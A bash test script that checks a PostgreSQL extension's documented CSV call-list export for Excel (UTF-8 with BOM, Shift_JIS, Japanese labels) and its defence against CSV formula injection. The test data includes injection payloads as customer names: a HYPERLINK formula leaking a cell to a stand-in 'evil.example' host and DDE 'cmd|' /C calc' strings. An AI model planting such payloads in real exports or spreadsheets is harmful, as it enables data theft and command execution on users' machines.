#!/usr/bin/env bash
# Exporting the call list for Excel: the documented commands, taken from
# docs/operations.md ("Exporting the call list for Excel") and README.md as
# they are written, run against a database with Japanese customer names.
#  - UTF-8 with a BOM: the file starts with EF BB BF, then the header; every
#    name, one with a comma, a double quote and a line break included, reads
#    back (Python's csv module, as Excel parses CSV) equal to the call list;
#    a name or id that Excel would run as a formula (=, +, -, @, tab, CR
#    first) reads back with an apostrophe before it, and no cell starts so;
#    𠮷 and é survive; a ja_JP.SJIS client encoding changes nothing.
#  - Shift_JIS: the bytes are code page 932 and read back equal, ① ㈱ 髙
#    included; a name with a character outside it (𠮷) stops the export with
#    an error and a nonzero exit status.
#  - README.md and README.ja.md show the same UTF-8 command as
#    docs/operations.md (README.ja.md's with the language set to ja); the
#    command writes the labels of the codes, in the language in force.
# Runs against the test server (PGHOST/PGPORT/PGUSER set by test/run_tests.sh).
set -u
REPO=$(cd "$(dirname "$0")/../.." && pwd)
db=dormancy_csv_export
work=$(mktemp -d /tmp/dormancy-csv.XXXXXX)
export PGCLIENTENCODING=UTF8
unset PGOPTIONS
cleanup() {
	dropdb --if-exists "$db" 2>/dev/null
	rm -rf "$work"
}
trap cleanup EXIT
dropdb --if-exists "$db" 2>/dev/null

fails=0
ok() { echo "ok: $1"; }
fail() { echo "FAIL: $1"; fails=$((fails + 1)); }

# the documented commands: the code lines that write the files
utf8_cmd=$(grep -F "> call_list.csv" "$REPO/docs/operations.md" | head -1)
sjis_cmd=$(grep -F "> call_list_sjis.csv" "$REPO/docs/operations.md" | head -1)
readme_cmd=$(grep -F "> call_list.csv" "$REPO/README.md" | head -1)
# (README.ja.md's sets dormancy.language to ja first, for the labels)
readme_ja_full=$(grep -F "> call_list.csv" "$REPO/README.ja.md" | head -1)
readme_ja_cmd=${readme_ja_full/ -c \"SET dormancy.language = \'ja\'\"/}
[ -n "$utf8_cmd" ] && ok "docs/operations.md has the UTF-8 command" || fail "no UTF-8 command in docs/operations.md"
[ -n "$sjis_cmd" ] && ok "docs/operations.md has the Shift_JIS command" || fail "no Shift_JIS command in docs/operations.md"
[ "$readme_cmd" = "$utf8_cmd" ] && ok "README.md shows the same UTF-8 command" ||
	fail "README.md's command differs from docs/operations.md's: $readme_cmd"
[ "$readme_ja_cmd" = "$utf8_cmd" ] && ok "README.ja.md shows the same UTF-8 command" ||
	fail "README.ja.md's command differs from docs/operations.md's: $readme_ja_cmd"
# they name the database mydb: this test's instead
utf8_cmd=${utf8_cmd//-d mydb/-d $db}
sjis_cmd=${sjis_cmd//-d mydb/-d $db}

createdb -T template0 -E UTF8 --locale=C "$db" || { echo "FAIL: createdb"; exit 1; }
psql -X -q -v ON_ERROR_STOP=1 -d "$db" <<'SQL' >/dev/null || { echo "FAIL: setup"; exit 1; }
CREATE EXTENSION dormancy;
ALTER DATABASE dormancy_csv_export SET dormancy.as_of = '2026-11-01';
CREATE SCHEMA crm;
CREATE TABLE crm.accounts (code text PRIMARY KEY, name text);
CREATE TABLE crm.orders (code text, ordered_on date, amount numeric);
-- regular buyers (quarterly, 2023 to mid 2025, then nothing): dormant, on the list
INSERT INTO crm.accounts VALUES
	('C001', '株式会社テスト,大阪支店'),
	('C002', '山田"特販",商事'),
	('C003', E'改行のある\n会社名'),
	('C004', 'ＡＢＣ商事（株）'),
	('C005', '①㈱髙島屋テスト'),
	('C006', '佐藤工業 株式会社'),
	('C007', '''引用符'' 商店'),
	('C008', 'ナカムラ・ｶﾌﾞｼｷｶﾞｲｼｬ'),
	-- names (and an id) that Excel would run as formulas: written with a
	-- leading apostrophe, which makes the cell text
	('C011', '=HYPERLINK("http://evil.example/?leak="&C3,"株式会社テスト")'),
	('C012', '+cmd|'' /C calc''!A0'),
	('C013', '-2+3+cmd|'' /C calc''!A0'),
	('C014', '@SUM(1+1)*cmd|'' /C calc''!A0'),
	('C015', E'\t=1+1'),
	('C016', E'\r=1+1 商事'),
	('=1+2', '数式のＩＤ商事');
INSERT INTO crm.orders
SELECT a.code, d::date, 500000 + 10000 * right(a.code, 1)::int
  FROM crm.accounts a, generate_series(date '2023-01-15', date '2025-07-15', interval '3 months') d;
SELECT dormancy.bind_customers('crm.accounts', id => 'code', name => 'name');
SELECT dormancy.bind_orders('crm.orders', customer => 'code', ordered_at => 'ordered_on', amount => 'amount');
SQL

# Python reads a file as Excel parses CSV (RFC 4180 quoting) and compares it
# with the call list as psql gives it (JSON, so names with line breaks stay whole)
compare() {	# compare FILE ENCODING
	psql -X -q -At -d "$db" -c "SELECT json_agg(json_build_object('call_order', call_order, 'customer_id', customer_id, 'name', name) ORDER BY call_order) FROM dormancy.call_list" >"$work/want.json"
	python3 - "$1" "$2" "$work/want.json" <<'PY'
import csv, io, json, sys
path, encoding, want_path = sys.argv[1:4]
raw = open(path, 'rb').read()
want = json.load(open(want_path, encoding='utf-8')) or []
text = raw.decode(encoding)
rows = list(csv.reader(io.StringIO(text, newline='')))
header, body = rows[0], rows[1:]
# a text cell that Excel would take for a formula (OWASP, CSV injection:
# first character = + - @ tab or carriage return) starts with an apostrophe
def safe(v):
    return "'" + v if v[:1] in ('=', '+', '-', '@', '\t', '\r') else v
got = [(int(r[header.index('call_order')]), r[header.index('customer_id')], r[header.index('name')]) for r in body]
exp = [(w['call_order'], safe(w['customer_id']), safe(w['name'])) for w in want]
if got != exp:
    print('rows differ:\n got  %r\n want %r' % (got, exp))
    sys.exit(1)
unsafe = [c for r in body for c in r if c[:1] in ('=', '+', '-', '@', '\t', '\r')]
if unsafe:
    print('cells Excel would run as formulas: %r' % unsafe)
    sys.exit(1)
print(len(got))
PY
}

# 1. UTF-8 with a BOM
(cd "$work" && eval "$utf8_cmd") && ok "the UTF-8 command runs" || fail "the UTF-8 command failed"
bom=$(head -c 3 "$work/call_list.csv" | od -An -tx1 | tr -d ' \n')
[ "$bom" = efbbbf ] && ok "the file starts with the UTF-8 BOM" || fail "the file starts with '$bom', not efbbbf"
header=$(head -1 "$work/call_list.csv" | tail -c +4)
[ "$header" = "call_order,customer_id,name,state,likely_reason,approach_channel,message_theme,total_amount,last_order_at,data_gaps" ] &&
	ok "the header names the columns" || fail "header: $header"
listed=$(psql -X -q -At -d "$db" -c "SELECT count(*) FROM dormancy.call_list WHERE customer_id IN ('C001', 'C002', 'C003', 'C004', 'C005', 'C007', 'C008', 'C011', 'C012', 'C013', 'C014', 'C015', 'C016', '=1+2')")
[ "$listed" = 14 ] && ok "the customers with difficult names are on the call list" ||
	fail "only $listed of the 14 customers with difficult names are on the call list"
if n=$(compare "$work/call_list.csv" utf-8-sig); then
	ok "every row reads back as in the call list, names with comma, quote and line break whole ($n rows)"
else
	fail "the UTF-8 file does not read back: $n"
fi
grep -qF '"山田""特販"",商事"' "$work/call_list.csv" && ok "a quote is doubled inside a quoted value" ||
	fail "山田\"特販\",商事 is not quoted as CSV quotes it"

# README.ja.md's command writes the Japanese labels (the state 休眠, dormant)
ja_run=${readme_ja_full//-d mydb/-d $db}
(cd "$work" && eval "${ja_run//> call_list.csv/> call_list_ja.csv}") && grep -q ',休眠,' "$work/call_list_ja.csv" &&
	ok "README.ja.md's command writes the labels in Japanese" || fail "README.ja.md's command: no Japanese state label in the file"

# the client encoding of a Japanese Windows terminal changes nothing
cp "$work/call_list.csv" "$work/call_list_utf8_client.csv"
(cd "$work" && export PGCLIENTENCODING=SJIS && eval "$utf8_cmd") && cmp -s "$work/call_list.csv" "$work/call_list_utf8_client.csv" &&
	ok "the same bytes with client encoding SJIS" || fail "client encoding SJIS changes the UTF-8 file"

# 2. Shift_JIS (code page 932)
(cd "$work" && eval "$sjis_cmd") && ok "the Shift_JIS command runs" || fail "the Shift_JIS command failed"
if n=$(compare "$work/call_list_sjis.csv" cp932); then
	ok "the Shift_JIS file reads back as code page 932, ① ㈱ 髙 included ($n rows)"
else
	fail "the Shift_JIS file does not read back: $n"
fi
head -c 3 "$work/call_list_sjis.csv" | grep -q $'\xef\xbb\xbf' && fail "the Shift_JIS file has a BOM" || ok "the Shift_JIS file has no BOM"

# 3. a character outside code page 932: UTF-8 keeps it, Shift_JIS stops
psql -X -q -d "$db" -c "INSERT INTO crm.accounts VALUES ('C009', '𠮷野フーズ'), ('C010', 'Café Müller 株式会社')" \
	-c "INSERT INTO crm.orders SELECT a.code, d::date, 900000 FROM crm.accounts a, generate_series(date '2023-01-15', date '2025-07-15', interval '3 months') d WHERE a.code IN ('C009', 'C010')"
(cd "$work" && eval "$utf8_cmd") && n=$(compare "$work/call_list.csv" utf-8-sig) && grep -qF '𠮷野フーズ' "$work/call_list.csv" &&
	grep -qF 'Café Müller' "$work/call_list.csv" &&
	ok "UTF-8 keeps 𠮷 and é ($n rows)" || fail "the UTF-8 file loses 𠮷 or é"
if out=$(cd "$work" && eval "$sjis_cmd" 2>&1); then
	fail "the Shift_JIS export of 𠮷 succeeded"
else
	grep -q 'has no equivalent in encoding "SJIS"' <<<"$out" &&
		ok "the Shift_JIS export stops with an error and a nonzero status (as documented)" ||
		fail "the Shift_JIS export failed otherwise: $out"
fi

echo "$fails failed"
[ $fails -eq 0 ]
